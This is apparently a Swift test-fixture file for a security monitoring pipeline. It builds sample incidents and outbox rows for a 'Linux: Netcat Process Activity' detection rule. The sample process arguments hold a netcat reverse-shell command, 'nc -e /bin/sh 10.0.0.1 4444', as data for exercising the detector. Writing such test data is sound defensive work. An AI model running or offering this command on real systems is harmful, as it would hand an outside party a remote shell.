import ExecEvents
import Journal
import RuleEngine

/// Incidents of the netcat rule's shape and outbox rows made from them.
enum Sample {
    static let firstSeen = EventTime(millisecondsSinceEpoch: 1_795_860_000_123)

    /// Version `version` of the incident of `user`'s group.
    static func incident(user: String = "alice", version: Int64 = 1) -> Incident {
        let swParam = "-e /bin/sh 10.0.0.1 4444"
        return Incident(
            incidentId: IncidentID(
                ruleId: "PH_Rule_TH_Linux_23",
                hostName: "web-1",
                groupValues: [("user", .string(user)), ("procName", .string("nc")), ("swParam", .string(swParam))]
            ),
            ruleId: "PH_Rule_TH_Linux_23",
            ruleName: "Linux: Netcat Process Activity",
            incidentType: "PH_RULE_TH_LINUX_23",
            severity: 7,
            category: "Security",
            tactics: ["Execution"],
            techniques: ["T1059.004"],
            hostName: "web-1",
            attributes: [
                IncidentAttribute(name: "hostName", value: .string("web-1")),
                IncidentAttribute(name: "user", value: .string(user)),
                IncidentAttribute(name: "procName", value: .string("nc")),
                IncidentAttribute(name: "swParam", value: .string(swParam)),
            ],
            count: version,
            firstSeen: firstSeen,
            lastSeen: firstSeen.adding(seconds: (version - 1) * 10),
            version: version,
            agentId: "agent-web-1",
            triggerEvents: [
                ExecEvent(
                    eventTime: firstSeen,
                    hostName: "web-1",
                    user: user,
                    procName: "nc",
                    swParam: swParam,
                    procId: 4242,
                    args: [Array("nc".utf8), Array("-e".utf8), Array("/bin/sh".utf8)]
                )
            ]
        )
    }

    static func update(user: String = "alice", version: Int64 = 1) -> IncidentUpdate {
        IncidentUpdate(
            kind: version == 1 ? .created : .updated,
            incident: incident(user: user, version: version),
            countIncrement: 1
        )
    }

    /// An outbox row as the journal would hold it, with a JSON text of `jsonBytes` bytes at least
    /// when given (padding in a trigger event's argument).
    static func row(seq: Int64, user: String = "alice", version: Int64 = 1, jsonBytes: Int? = nil) -> OutboxEntry {
        var incident = incident(user: user, version: version)
        if let jsonBytes {
            let padding = max(0, jsonBytes - incident.jsonLine.utf8.count)
            incident.triggerEvents[0].swParam = String(repeating: "x", count: padding)
        }
        return OutboxEntry(
            seq: seq,
            incidentId: incident.incidentId,
            version: version,
            kind: version == 1 ? .created : .updated,
            json: incident.jsonLine,
            enqueuedAt: firstSeen
        )
    }
}
